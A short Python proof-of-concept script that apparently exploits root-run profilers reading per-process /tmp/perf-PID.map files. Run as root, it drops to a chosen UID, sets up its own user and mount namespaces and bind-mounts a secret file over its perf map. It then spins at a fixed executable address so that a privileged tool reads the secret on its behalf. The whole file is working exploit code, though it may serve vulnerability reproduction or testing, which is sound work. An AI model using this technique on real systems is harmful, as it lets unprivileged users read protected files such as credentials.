#!/usr/bin/env python3
"""A user without rights who would have root read a file for them.

    peek.py UID SECRET ADDRESS [TEXT]
        as root: becomes UID, writes TEXT into its own perf map, mounts SECRET over that in namespaces
        of its own (not where it is "-"), prints "ready PID", and computes at ADDRESS (hexadecimal)
"""
import ctypes
import mmap
import os
import sys

CLONE_NEWNS, CLONE_NEWUSER = 0x20000, 0x10000000
MS_REC, MS_PRIVATE, MS_BIND = 0x4000, 1 << 18, 0x1000
MAP_FIXED_NOREPLACE = 0x100000
PAGE = 4096
LOOP = b"\xeb\xfe"  # jmp to itself

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int,
                      ctypes.c_long]


def check(result, what):
    if result < 0:
        raise OSError(ctypes.get_errno(), what)


def write(path, text):
    with open(path, "w", encoding="utf-8") as f:
        f.write(text)


def main():
    uid, secret, address = int(sys.argv[1]), sys.argv[2], int(sys.argv[3], 16)
    os.setgroups([])
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
    # Or its own files in /proc would be root's.
    check(libc.prctl(4, 1), "PR_SET_DUMPABLE")
    check(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS), "unshare")
    write("/proc/self/setgroups", "deny")
    write("/proc/self/uid_map", f"{uid} {uid} 1")
    write("/proc/self/gid_map", f"{uid} {uid} 1")
    own = f"/tmp/perf-{os.getpid()}.map"
    write(own, "".join(sys.argv[4:]))
    if secret != "-":
        check(libc.mount(b"none", b"/", b"none", MS_REC | MS_PRIVATE, None), "mount /")
        check(libc.mount(secret.encode(), own.encode(), b"none", MS_BIND, None), "mount " + own)
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_FIXED_NOREPLACE
    protection = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
    if libc.mmap(address, PAGE, protection, flags, -1, 0) != address:
        raise OSError(ctypes.get_errno(), "mmap")
    ctypes.memmove(address, LOOP, len(LOOP))
    print("ready", os.getpid(), flush=True)
    ctypes.CFUNCTYPE(None)(address)()


main()
